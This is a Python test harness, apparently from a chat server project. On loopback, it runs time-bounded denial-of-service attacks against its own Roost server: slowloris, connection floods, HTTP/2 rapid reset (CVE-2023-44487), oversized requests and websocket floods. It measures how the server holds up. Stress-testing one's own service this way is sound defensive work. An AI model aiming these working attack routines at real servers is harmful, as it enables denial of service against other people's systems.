#!/usr/bin/env python3
"""Slow and abusive clients against a real Roost, with a normal client measured alongside.

For each attack: Roost's RSS before, at its peak during and after; a normal client's latency
for `GET /health` over a fresh TLS connection (a separate process, from 127.0.0.2 so it is a
different client IP than the attacker on 127.0.0.1) during the attack, next to a quiet
baseline; and what the attack saw (how long the server held its connections, status codes,
frames). Loopback only; every attack is bounded in time and in connections.

    scripts/robustness/abuse.sh [--seconds 20] [--only NAME[,NAME]] [--max-connections 64]
                                [--per-ip 16] [--idle-timeout 15]

HTTP/2 attacks need the `h2` package (PyPI); abuse.sh makes a venv with it. Run directly, those
attacks are skipped when h2 is missing.

The websocket attacks (`ws_*`) use hundreds of connections from 127.0.0.1 (exempt from rate
limits); run them with caps that let that many in, e.g.
    scripts/robustness/abuse.sh --only ws_post_only,ws_never_read,ws_oversized,ws_small_frames \
        --max-connections 1024 --per-ip 1000
"""

import argparse
import asyncio
import base64
import http.client
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from roostlib import PASSWORD, Roost, log, percentiles, probe_health

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.settings
except ImportError:  # the HTTP/2 attacks are skipped
    h2 = None

NORMAL_SOURCE = "127.0.0.2"


# ---- helpers ----------------------------------------------------------------------------------


def ssl_ctx(roost, alpn):
    ctx = roost.ssl_context()
    ctx.set_alpn_protocols(alpn)
    return ctx


async def tls_open(roost, alpn=("http/1.1",), timeout=15):
    return await asyncio.wait_for(
        asyncio.open_connection(
            "127.0.0.1",
            roost.https_port,
            ssl=ssl_ctx(roost, list(alpn)),
            server_hostname="localhost",
            ssl_handshake_timeout=timeout,
        ),
        timeout,
    )


def client_hello():
    """The bytes of a real TLS ClientHello for localhost."""
    ctx = ssl.create_default_context()
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


async def until(deadline):
    rest = deadline - time.monotonic()
    if rest > 0:
        await asyncio.sleep(rest)


class Held:
    """How long the server kept the attacker's connections open."""

    def __init__(self):
        self.lifetimes = []
        self.opened = 0
        self.failed = 0
        self.open_at_end = 0

    def summary(self):
        lt = sorted(self.lifetimes)
        med = lt[len(lt) // 2] if lt else None
        return {
            "connections_opened": self.opened,
            "connect_failures": self.failed,
            "closed_by_server": len(lt),
            "held_s_median": round(med, 1) if med is not None else None,
            "held_s_max": round(lt[-1], 1) if lt else None,
            "still_open_at_end": self.open_at_end,
        }


async def wait_closed(reader, deadline, tick=None):
    """Reads until the server closes (returns True) or the deadline (False). `tick` is called
    once a second (to dribble bytes)."""
    while time.monotonic() < deadline:
        try:
            data = await asyncio.wait_for(reader.read(65536), 1.0)
            if not data:
                return True
        except asyncio.TimeoutError:
            if tick:
                await tick()
        except (ConnectionError, ssl.SSLError, OSError):
            return True
    return False


# ---- attacks ----------------------------------------------------------------------------------
# Each takes (roost, seconds, args) and returns a dict of what it saw. Bounded by `seconds` and
# by its connection count.


async def slowloris(roost, seconds, args):
    """Hundreds of TLS connections sending a request head one header line per second."""
    held = Held()
    deadline = time.monotonic() + seconds

    async def one():
        while time.monotonic() < deadline:
            t0 = time.monotonic()
            try:
                r, w = await tls_open(roost)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                held.failed += 1
                await asyncio.sleep(0.5)
                continue
            held.opened += 1
            w.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\n")

            async def dribble():
                w.write(b"X-Slow: x\r\n")
                await w.drain()

            if await wait_closed(r, deadline, dribble):
                held.lifetimes.append(time.monotonic() - t0)
            else:
                held.open_at_end += 1
            w.close()

    await asyncio.gather(*(one() for _ in range(args.slowloris)))
    return held.summary()


async def tls_idle(roost, seconds, args):
    """TCP connections that never send a ClientHello, and some that send half of one."""
    held_idle, held_partial = Held(), Held()
    deadline = time.monotonic() + seconds
    hello = client_hello()

    async def one(held, payload):
        while time.monotonic() < deadline:
            t0 = time.monotonic()
            try:
                r, w = await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", roost.https_port), 10
                )
            except (OSError, asyncio.TimeoutError):
                held.failed += 1
                await asyncio.sleep(0.5)
                continue
            held.opened += 1
            if payload:
                w.write(payload)
            if await wait_closed(r, deadline):
                held.lifetimes.append(time.monotonic() - t0)
            else:
                held.open_at_end += 1
            w.close()

    await asyncio.gather(
        *(one(held_idle, b"") for _ in range(args.tls_idle)),
        *(one(held_partial, hello[: len(hello) // 2]) for _ in range(args.tls_idle // 3)),
    )
    return {"no_client_hello": held_idle.summary(), "half_client_hello": held_partial.summary()}


async def flood(roost, seconds, args):
    """Far more connections than max_connections, each completing TLS and then going quiet
    (as an idle keep-alive client would), reconnecting when closed."""
    held = Held()
    handshakes = {"completed": 0, "timed_out": 0}
    deadline = time.monotonic() + seconds

    async def one():
        while time.monotonic() < deadline:
            t0 = time.monotonic()
            try:
                r, w = await tls_open(roost, timeout=max(1.0, deadline - time.monotonic()))
            except asyncio.TimeoutError:
                handshakes["timed_out"] += 1
                continue
            except (OSError, ssl.SSLError):
                held.failed += 1
                await asyncio.sleep(0.2)
                continue
            handshakes["completed"] += 1
            held.opened += 1
            if await wait_closed(r, deadline):
                held.lifetimes.append(time.monotonic() - t0)
            else:
                held.open_at_end += 1
            w.close()

    await asyncio.gather(*(one() for _ in range(args.flood)))
    return {**held.summary(), "tls_handshakes": handshakes}


async def never_read(roost, seconds, args):
    """Clients that ask for a large response (the invite list, ~75 KB) over and over,
    pipelined, and never read a byte of it."""
    held = Held()
    deadline = time.monotonic() + seconds
    req = (
        f"GET /api/v1/invites HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Bearer {args.token}\r\n\r\n"
    ).encode()
    sent = {"requests": 0}

    async def one():
        while time.monotonic() < deadline:
            t0 = time.monotonic()
            try:
                r, w = await tls_open(roost)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                held.failed += 1
                await asyncio.sleep(0.5)
                continue
            held.opened += 1
            closed = False
            # Pipeline up to 200 requests; the transport buffers what the server does not take.
            for _ in range(200):
                try:
                    w.write(req)
                    sent["requests"] += 1
                except (ConnectionError, OSError):
                    closed = True
                    break
            # Never read: just wait for the server to give up on us.
            while not closed and time.monotonic() < deadline:
                await asyncio.sleep(1)
                closed = w.is_closing() or r.at_eof() or w.transport.is_closing()
                if not closed:
                    try:
                        w.write(b"")
                    except (ConnectionError, OSError):
                        closed = True
                    # A TLS transport notices the peer's close only when it tries to read; the
                    # protocol pauses reading when the buffer is full, so probe the socket.
                    sock = w.get_extra_info("socket")
                    if sock is not None:
                        try:
                            err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                            closed = closed or err != 0
                        except OSError:
                            closed = True
            if closed:
                held.lifetimes.append(time.monotonic() - t0)
            else:
                held.open_at_end += 1
            w.transport.abort()

    await asyncio.gather(*(one() for _ in range(args.never_read)))
    return {**held.summary(), **sent}


async def oversized_headers(roost, seconds, args):
    """Request heads far over the 64 KiB cap (HTTP/1.1); expect 431 and a closed connection."""
    statuses = {}
    deadline = time.monotonic() + seconds
    big = b"X-Big: " + b"a" * (256 * 1024) + b"\r\n"

    async def one():
        while time.monotonic() < deadline:
            try:
                r, w = await tls_open(roost)
                w.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\n" + big + b"\r\n")
                head = await asyncio.wait_for(r.read(64), 15)
                key = head.split(b"\r\n")[0].decode(errors="replace") or "closed"
            except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
                key = type(e).__name__
            statuses[key] = statuses.get(key, 0) + 1
            try:
                w.close()
            except Exception:
                pass

    await asyncio.gather(*(one() for _ in range(args.oversized)))
    return {"responses": statuses}


async def oversized_body(roost, seconds, args):
    """Chunked bodies without Content-Length, 64 MiB each, to an endpoint that reads JSON and to
    one that reads nothing; expect 413 at the 1 MiB cap and the upload cut off."""
    results = {}
    deadline = time.monotonic() + seconds
    chunk = b"a" * 65536
    frame = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"

    async def one(path):
        while time.monotonic() < deadline:
            sent = 0
            try:
                r, w = await tls_open(roost)
                w.write(
                    f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    f"Transfer-Encoding: chunked\r\n\r\n".encode()
                )
                head = b""
                for _ in range(1024):  # 64 MiB at most
                    w.write(frame)
                    await asyncio.wait_for(w.drain(), 15)
                    sent += len(chunk)
                    try:
                        head = await asyncio.wait_for(r.read(64), 0.001)
                    except asyncio.TimeoutError:
                        continue
                    break
                if not head:
                    head = await asyncio.wait_for(r.read(64), 15)
                key = head.split(b"\r\n")[0].decode(errors="replace") or "closed"
            except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
                key = type(e).__name__
            entry = results.setdefault(path, {"responses": {}, "max_sent_mib": 0})
            entry["responses"][key] = entry["responses"].get(key, 0) + 1
            entry["max_sent_mib"] = max(entry["max_sent_mib"], round(sent / 2**20, 2))
            try:
                w.close()
            except Exception:
                pass

    paths = ["/api/v1/auth/login", "/health"]
    await asyncio.gather(*(one(paths[i % 2]) for i in range(args.oversized)))
    return results


class H2Client:
    """A minimal HTTP/2 client over asyncio + the h2 state machine, for abusive patterns."""

    def __init__(self, r, w, settings=None):
        self.r, self.w = r, w
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.events = []
        self.goaway = None
        self.resets = 0
        self.responses = 0

    async def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.w.write(data)
            await self.w.drain()

    def headers(self, path="/health"):
        return [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", path),
        ]

    async def pump(self, timeout=0.0):
        """Reads what is available (waiting at most `timeout`); False once the server closed."""
        try:
            data = await asyncio.wait_for(self.r.read(65536), timeout) if timeout else None
            if data is None:
                data = await asyncio.wait_for(self.r.read(65536), 0.001)
        except asyncio.TimeoutError:
            return True
        except (ConnectionError, ssl.SSLError, OSError):
            return False
        if not data:
            return False
        try:
            events = self.conn.receive_data(data)
        except Exception:
            return False
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = str(ev.error_code)
            elif isinstance(ev, h2.events.StreamReset):
                self.resets += 1
            elif isinstance(ev, h2.events.ResponseReceived):
                self.responses += 1
        try:
            await self.flush()
        except (ConnectionError, OSError):
            return False
        return True


async def h2_streams(roost, seconds, args):
    """HTTP/2 connections each opening 1000 streams at once (the server allows 128)."""
    deadline = time.monotonic() + seconds
    total = {"streams_opened": 0, "responses": 0, "refused_or_reset": 0, "goaway": {}}

    async def one():
        while time.monotonic() < deadline:
            try:
                r, w = await tls_open(roost, alpn=("h2",))
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                await asyncio.sleep(0.5)
                continue
            c = H2Client(r, w)
            try:
                for _ in range(1000):
                    sid = c.conn.get_next_available_stream_id()
                    c.conn.send_headers(sid, c.headers(), end_stream=True)
                    total["streams_opened"] += 1
                await c.flush()
                end = min(deadline, time.monotonic() + 10)
                while time.monotonic() < end and c.responses + c.resets < 1000:
                    if not await c.pump(0.5):
                        break
            except Exception:
                pass
            total["responses"] += c.responses
            total["refused_or_reset"] += c.resets
            if c.goaway:
                total["goaway"][c.goaway] = total["goaway"].get(c.goaway, 0) + 1
            w.transport.abort()

    await asyncio.gather(*(one() for _ in range(args.h2_conns)))
    return total


async def h2_rapid_reset(roost, seconds, args):
    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
    deadline = time.monotonic() + seconds
    total = {"streams_reset": 0, "goaway": {}, "connections": 0}
    cpu0 = roost.cpu_secs()

    async def one():
        while time.monotonic() < deadline:
            try:
                r, w = await tls_open(roost, alpn=("h2",))
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                await asyncio.sleep(0.5)
                continue
            total["connections"] += 1
            c = H2Client(r, w)
            alive = True
            try:
                while alive and time.monotonic() < deadline and c.goaway is None:
                    for _ in range(100):
                        sid = c.conn.get_next_available_stream_id()
                        c.conn.send_headers(sid, c.headers(), end_stream=True)
                        c.conn.reset_stream(sid, error_code=8)  # CANCEL
                        total["streams_reset"] += 1
                    await c.flush()
                    alive = await c.pump()
            except Exception:
                pass
            if c.goaway:
                total["goaway"][c.goaway] = total["goaway"].get(c.goaway, 0) + 1
            w.transport.abort()

    await asyncio.gather(*(one() for _ in range(args.h2_conns)))
    total["roost_cpu_s"] = round(roost.cpu_secs() - cpu0, 2)
    return total


async def h2_idle_ping(roost, seconds, args):
    """HTTP/2 connections that open no stream but keep pinging (and answer the server's pings):
    does the server ever close a connection that does no work?"""
    held = Held()
    deadline = time.monotonic() + seconds

    async def one():
        t0 = time.monotonic()
        try:
            r, w = await tls_open(roost, alpn=("h2",))
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            held.failed += 1
            return
        held.opened += 1
        c = H2Client(r, w)
        alive = True
        try:
            await c.flush()
            while alive and time.monotonic() < deadline and c.goaway is None:
                c.conn.ping(os.urandom(8))
                await c.flush()
                alive = await c.pump(5.0)
        except Exception:
            alive = False
        if not alive or c.goaway:
            held.lifetimes.append(time.monotonic() - t0)
        else:
            held.open_at_end += 1
        w.transport.abort()

    await asyncio.gather(*(one() for _ in range(args.h2_conns)))
    return held.summary()



# ---- websocket attacks ------------------------------------------------------------------------
# A raw client (RFC 6455 by hand) so an attack can do what a library would not: stop reading,
# send frames over the limits. Client frames are masked with a zero key (valid; the key only has
# to be present).


def ws_frame(opcode, payload, fin=True, declared=None):
    """A masked client frame; `declared` overrides the length in the header (for frames whose
    payload is streamed afterwards)."""
    n = len(payload) if declared is None else declared
    head = bytes([(0x80 if fin else 0) | opcode])
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + struct.pack("!H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack("!Q", n)
    return head + b"\0\0\0\0" + payload


def ws_text(obj):
    return ws_frame(0x1, json.dumps(obj).encode())


class WsFrames:
    """Server frames parsed from a byte stream: text frames, pings, the close code."""

    def __init__(self):
        self.buf = b""
        self.texts = 0
        self.close_code = None

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 2:
            b0, b1 = self.buf[0], self.buf[1]
            n, off = b1 & 0x7F, 2
            if n == 126:
                if len(self.buf) < 4:
                    return
                n, off = struct.unpack("!H", self.buf[2:4])[0], 4
            elif n == 127:
                if len(self.buf) < 10:
                    return
                n, off = struct.unpack("!Q", self.buf[2:10])[0], 10
            if len(self.buf) < off + n:
                return
            payload, self.buf = self.buf[off : off + n], self.buf[off + n :]
            opcode = b0 & 0x0F
            if opcode == 0x1:
                self.texts += 1
            elif opcode == 0x8:
                self.close_code = struct.unpack("!H", payload[:2])[0] if len(payload) >= 2 else 1005


async def ws_open(roost, source=None, rcvbuf=None, timeout=15):
    """TLS + the upgrade; returns (reader, writer) positioned after the 101 response head."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    if source:
        sock.bind((source, 0))
    sock.setblocking(False)
    try:
        await asyncio.wait_for(
            asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", roost.https_port)), timeout
        )
        r, w = await asyncio.wait_for(
            asyncio.open_connection(
                sock=sock, ssl=ssl_ctx(roost, ["http/1.1"]), server_hostname="localhost",
                ssl_handshake_timeout=timeout,
            ),
            timeout,
        )
    except BaseException:
        sock.close()
        raise
    key = base64.b64encode(os.urandom(16)).decode()
    w.write(
        (
            "GET /api/v1/gateway HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), timeout)
    if not head.startswith(b"HTTP/1.1 101"):
        w.transport.abort()
        raise ConnectionError(head.split(b"\r\n")[0].decode(errors="replace"))
    return r, w


def tcp_closed_by_peer(w):
    """True once the server sent FIN or reset, without reading anything (TCP_INFO's state)."""
    sock = w.get_extra_info("socket")
    if sock is None:
        return True
    try:
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return True
        state = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    except OSError:
        return True
    return state in (7, 8)  # TCP_CLOSE, TCP_CLOSE_WAIT


async def ws_drain(r, frames, deadline):
    """Reads (and parses) until the server closes or `deadline`; True if it closed."""
    while time.monotonic() < deadline:
        try:
            data = await asyncio.wait_for(r.read(1 << 20), max(0.05, deadline - time.monotonic()))
        except asyncio.TimeoutError:
            return False
        except (ConnectionError, ssl.SSLError, OSError):
            return True
        if not data:
            return True
        frames.feed(data)
    return False


def db_scalar(roost, sql):
    """One value read from the live database (read-only; WAL lets it sit beside the daemon)."""
    import sqlite3

    db = sqlite3.connect(f"file:{roost.db_path}?mode=ro", uri=True)
    try:
        return db.execute(sql).fetchone()[0]
    finally:
        db.close()


def metrics_text(roost):
    c = http.client.HTTPConnection("127.0.0.1", roost.internal_port, timeout=10)
    try:
        c.request("GET", "/metrics", headers={"Host": "localhost"})
        return c.getresponse().read().decode()
    finally:
        c.close()


def ws_metrics(roost):
    """(open gateway connections, {disconnect reason: count})."""
    text = metrics_text(roost)
    conns = re.search(r"^roost_ws_connections (\S+)", text, re.M)
    reasons = {
        m.group(1): int(float(m.group(2)))
        for m in re.finditer(r'^roost_ws_disconnects_total\{reason="([^"]+)"\} (\S+)', text, re.M)
    }
    return int(float(conns.group(1))) if conns else 0, reasons


def diff_counts(after, before):
    return {k: v - before.get(k, 0) for k, v in after.items() if v - before.get(k, 0)}


class WsWatch(threading.Thread):
    """Samples `roost_ws_connections` every 0.5 s during an attack."""

    def __init__(self, roost):
        super().__init__(daemon=True)
        self.roost, self.stop_flag, self.samples = roost, threading.Event(), []
        self.before = ws_metrics(roost)[1]

    def run(self):
        t0 = time.monotonic()
        while not self.stop_flag.wait(0.5):
            try:
                self.samples.append((time.monotonic() - t0, ws_metrics(self.roost)[0]))
            except OSError:
                pass

    def finish(self):
        self.stop_flag.set()
        self.join()
        peak = max((n for _, n in self.samples), default=0)
        return {
            "ws_connections_peak": peak,
            "ws_connections_at_end": self.samples[-1][1] if self.samples else None,
            "disconnects": diff_counts(ws_metrics(self.roost)[1], self.before),
        }


class Poster(threading.Thread):
    """Posts messages of `chars` characters to the attack's room at `rate` a second (one
    keep-alive connection from 127.0.0.1, which the rate limiter exempts)."""

    def __init__(self, roost, token, room, rate, chars, seconds):
        super().__init__(daemon=True)
        self.roost, self.token, self.room = roost, token, room
        self.rate, self.chars, self.seconds = rate, chars, seconds
        self.lat, self.statuses = [], {}

    def run(self):
        if self.rate <= 0:
            return
        conn = self.roost.connection(timeout=15)
        body = {"body": "x" * self.chars}
        t_end = time.monotonic() + self.seconds
        n = 0
        start = time.monotonic()
        while time.monotonic() < t_end:
            t0 = time.monotonic()
            try:
                st, _ = self.roost.request(
                    "POST", f"/api/v1/rooms/{self.room}/messages", body, self.token, conn=conn
                )
            except (OSError, http.client.HTTPException) as e:
                st = type(e).__name__
                conn = self.roost.connection(timeout=15)
            self.lat.append(time.monotonic() - t0)
            self.statuses[st] = self.statuses.get(st, 0) + 1
            n += 1
            rest = start + n / self.rate - time.monotonic()
            if rest > 0:
                time.sleep(rest)
        conn.close()

    def summary(self):
        p50, p99, mx = percentiles(self.lat)
        return {"posted": self.statuses, "post_ms_p50_p99": [p50, p99]}


def ws_prepare(roost, args):
    """Accounts for the websocket attacks (16 connections per account at most), one room with
    all of them, and their access tokens."""
    users = max(1, -(-args.ws_clients // 12))
    for i in range(users):
        roost.cli("user", "add", f"ws-user-{i}", "--role", "member", stdin=PASSWORD + "\n")
    conn = roost.connection()
    st, room = roost.request("POST", "/api/v1/rooms", {"name": "abuse"}, args.token, conn=conn)
    assert st == 201, (st, room)
    tokens = []
    for i in range(users):
        body = roost.login(f"ws-user-{i}", conn=conn)
        tokens.append(body["access_token"])
        uid = roost.request("GET", "/api/v1/me", token=body["access_token"], conn=conn)[1]["user"]["id"]
        st, out = roost.request(
            "PUT", f"/api/v1/rooms/{room['id']}/members/{uid}", token=args.token, conn=conn
        )
        assert st in (200, 201), (st, out)
    conn.close()
    args.ws = {"room": room["id"], "tokens": tokens}


async def ws_never_read(roost, seconds, args):
    """Hundreds of gateway clients that never read while messages are posted to their room:
    `--ws-clients` sign in (tiny receive buffers, so they fall behind within the attack) and
    a third as many more never even authenticate (reconnecting when closed)."""
    deadline = time.monotonic() + seconds
    watch = WsWatch(roost)
    watch.start()
    poster = Poster(roost, args.token, args.ws["room"], args.ws_post_rate, args.ws_chars, seconds)
    poster.start()
    authed, unauth = [], Held()
    failures = {}

    async def signed_in(i):
        try:
            r, w = await ws_open(roost, rcvbuf=args.ws_rcvbuf)
            w.write(ws_text({"op": "auth", "token": args.ws["tokens"][i % len(args.ws["tokens"])]}))
            await w.drain()
        except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
            failures[type(e).__name__] = failures.get(type(e).__name__, 0) + 1
            return
        w.transport.pause_reading()  # and never again, until the attack is over
        authed.append((r, w))

    async def silent():
        while time.monotonic() < deadline:
            t0 = time.monotonic()
            try:
                r, w = await ws_open(roost, rcvbuf=args.ws_rcvbuf)
            except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError):
                unauth.failed += 1
                await asyncio.sleep(0.5)
                continue
            unauth.opened += 1
            w.transport.pause_reading()
            while time.monotonic() < deadline and not tcp_closed_by_peer(w):
                await asyncio.sleep(0.25)
            if time.monotonic() < deadline:
                unauth.lifetimes.append(time.monotonic() - t0)
            else:
                unauth.open_at_end += 1
            w.transport.abort()

    silent_tasks = [asyncio.ensure_future(silent()) for _ in range(args.ws_clients // 3)]
    await asyncio.gather(*(signed_in(i) for i in range(args.ws_clients)))
    await until(deadline)
    await asyncio.gather(*silent_tasks)
    await asyncio.get_running_loop().run_in_executor(None, poster.join)
    ws = watch.finish()

    # Read what each signed-in client was sent: how many events, and how it was closed.
    outcomes, texts = {}, []
    end = time.monotonic() + 10

    async def collect(r, w):
        frames = WsFrames()
        w.transport.resume_reading()
        closed = await ws_drain(r, frames, end)
        key = f"close {frames.close_code}" if frames.close_code else ("dropped" if closed else "open")
        outcomes[key] = outcomes.get(key, 0) + 1
        texts.append(frames.texts)
        w.transport.abort()

    await asyncio.gather(*(collect(r, w) for r, w in authed))
    texts.sort()
    return {
        **ws,
        **poster.summary(),
        "signed_in": {
            "connected": len(authed),
            "connect_failures": failures,
            "seen_after_the_attack": outcomes,
            "frames_received_median_max": [texts[len(texts) // 2], texts[-1]] if texts else None,
        },
        "never_authenticated": unauth.summary(),
    }


async def ws_post_only(roost, seconds, args):
    """The control for ws_never_read: the same posting, no gateway clients."""
    poster = Poster(roost, args.token, args.ws["room"], args.ws_post_rate, args.ws_chars, seconds)
    poster.start()
    await asyncio.get_running_loop().run_in_executor(None, poster.join)
    return poster.summary()


async def ws_oversized(roost, seconds, args):
    """Frames and messages over `[gateway] max_frame_bytes` (64 KiB), before and after
    signing in: one text frame declaring 16 MiB (its payload streamed after the header), a
    text message in 60 KiB fragments up to 16 MiB, a 1 MiB binary frame, and a ping with a
    200-byte payload (control frames may carry 125). Expect close 1009 (too big) or 1002
    (protocol) as soon as the header says so, with little of the payload read."""
    deadline = time.monotonic() + seconds
    results = {}
    chunk = b"a" * 61440
    kinds = ["huge_frame", "fragments", "binary", "big_ping"]

    async def one(i):
        kind, auth = kinds[i % len(kinds)], (i // len(kinds)) % 2 == 1
        while time.monotonic() < deadline:
            sent, frames = 0, WsFrames()
            try:
                r, w = await ws_open(roost)
                if auth:
                    w.write(ws_text({"op": "auth", "token": args.ws["tokens"][i % len(args.ws["tokens"])]}))
                    await w.drain()
                if kind == "huge_frame":
                    w.write(ws_frame(0x1, b"", declared=16 << 20))
                elif kind == "binary":
                    w.write(ws_frame(0x2, b"\0" * (1 << 20)))
                    sent = 1 << 20
                elif kind == "big_ping":
                    w.write(ws_frame(0x9, b"p" * 200))
                else:
                    w.write(ws_frame(0x1, chunk, fin=False))
                    sent = len(chunk)
                closed = False
                for _ in range(273):  # 16 MiB at most
                    if kind == "huge_frame":
                        w.write(chunk)
                    elif kind == "fragments":
                        w.write(ws_frame(0x0, chunk, fin=False))
                    else:
                        break
                    sent += len(chunk)
                    await asyncio.wait_for(w.drain(), 15)
                    if await ws_drain(r, frames, time.monotonic() + 0.001) or frames.close_code:
                        closed = True
                        break
                if not closed:
                    await ws_drain(r, frames, min(deadline, time.monotonic() + 15) + 5)
                key = f"close {frames.close_code}" if frames.close_code else "no close frame"
            except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
                key = type(e).__name__
            entry = results.setdefault(f"{kind}{' (signed in)' if auth else ''}", {"outcomes": {}, "max_sent_kib": 0})
            entry["outcomes"][key] = entry["outcomes"].get(key, 0) + 1
            entry["max_sent_kib"] = max(entry["max_sent_kib"], sent // 1024)
            try:
                w.transport.abort()
            except Exception:
                pass

    watch = WsWatch(roost)
    watch.start()
    await asyncio.gather(*(one(i) for i in range(args.oversized)))
    return {**results, **watch.finish()}


async def ws_small_frames(roost, seconds, args):
    """Signed-in gateway clients sending small frames as fast as they can: `{"op":"ping"}`
    (each one answered with a pong), `typing` in their room and WebSocket pings. Half read what
    they are sent, half never do, so the pongs pile up until the server stops reading them."""
    deadline = time.monotonic() + seconds
    stats = {"frames_sent": 0, "connections": 0, "closed_by_server": 0, "ended": {}}
    room = args.ws["room"]
    batch = (ws_text({"op": "ping"}) + ws_text({"op": "typing", "room_id": room}) + ws_frame(0x9, b"hi")) * 50
    cpu0 = roost.cpu_secs()

    async def one(i):
        reads = i % 2 == 0
        while time.monotonic() < deadline:
            frames = WsFrames()
            try:
                r, w = await ws_open(roost)
                w.write(ws_text({"op": "auth", "token": args.ws["tokens"][i % len(args.ws["tokens"])]}))
                stats["connections"] += 1
                if not reads:
                    w.transport.pause_reading()
                how = "open at the end"
                stalled = False
                while time.monotonic() < deadline:
                    # Writes only what the socket takes (the server stopped reading: the
                    # pressure stays on, without growing this process's buffers).
                    if w.transport.get_write_buffer_size() < len(batch):
                        w.write(batch)
                        stats["frames_sent"] += 150
                    elif not stalled:
                        stalled = True
                        stats["stalled_writers"] = stats.get("stalled_writers", 0) + 1
                    await asyncio.sleep(0.01 if stalled else 0)
                    if reads:
                        if await ws_drain(r, frames, time.monotonic() + 0.001) or frames.close_code:
                            how = f"close {frames.close_code}" if frames.close_code else "dropped"
                            break
                    elif tcp_closed_by_peer(w):
                        how = "dropped (never read)"
                        break
            except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
                how = type(e).__name__
            stats["ended"][how] = stats["ended"].get(how, 0) + 1
            if how != "open at the end":
                stats["closed_by_server"] += 1
            try:
                w.transport.abort()
            except Exception:
                pass

    watch = WsWatch(roost)
    watch.start()
    await asyncio.gather(*(one(i) for i in range(args.ws_flooders)))
    stats["roost_cpu_s"] = round(roost.cpu_secs() - cpu0, 2)
    return {**stats, **watch.finish()}


async def oversized_request(roost, path, token, total, declared, content_type):
    """One POST of `total` bytes, chunked or with a declared Content-Length; returns (status
    line or error name, bytes sent)."""
    sent = 0
    chunk = b"a" * 65536
    w = None
    try:
        r, w = await tls_open(roost)
        head = (
            f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
            f"Content-Type: {content_type}\r\n"
        )
        head += f"Content-Length: {total}\r\n\r\n" if declared else "Transfer-Encoding: chunked\r\n\r\n"
        w.write(head.encode())
        frame = chunk if declared else f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
        got = b""
        while sent < total:
            w.write(frame)
            await asyncio.wait_for(w.drain(), 15)
            sent += len(chunk)
            try:
                got = await asyncio.wait_for(r.read(64), 0.001)
            except asyncio.TimeoutError:
                continue
            break
        if not got:
            got = await asyncio.wait_for(r.read(64), 15)
        return got.split(b"\r\n")[0].decode(errors="replace") or "closed", sent
    except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError) as e:
        return type(e).__name__, sent
    finally:
        if w is not None:
            w.transport.abort()


async def oversized_authed(roost, seconds, args, cases):
    deadline = time.monotonic() + seconds
    results = {}

    async def one(i):
        name, path, total, declared, ctype = cases[i % len(cases)]
        while time.monotonic() < deadline:
            key, sent = await oversized_request(roost, path, args.token, total, declared, ctype)
            e = results.setdefault(name, {"responses": {}, "max_sent_mib": 0})
            e["responses"][key] = e["responses"].get(key, 0) + 1
            e["max_sent_mib"] = max(e["max_sent_mib"], round(sent / 2**20, 2))

    await asyncio.gather(*(one(i) for i in range(args.oversized)))
    return results


async def oversized_upload(roost, seconds, args):
    """Signed-in uploads past `[attachments] max_bytes` (25 MiB): 26 MiB chunked (refused
    while streaming) and a declared 26 MiB Content-Length (refused before the body). Afterwards
    `attachments/tmp` must be empty and no attachment row added."""
    path = "/api/v1/attachments?name=big.txt"
    total = 26 << 20
    facts = await oversized_authed(roost, seconds, args, [
        ("chunked 26 MiB", path, total, False, "text/plain"),
        ("declared 26 MiB", path, total, True, "text/plain"),
    ])
    tmp = roost.data_dir / "attachments" / "tmp"
    facts["temp_files_left"] = len(list(tmp.iterdir())) if tmp.exists() else None
    facts["attachment_rows"] = db_scalar(roost, "SELECT count(*) FROM attachments")
    return facts


async def oversized_message(roost, seconds, args):
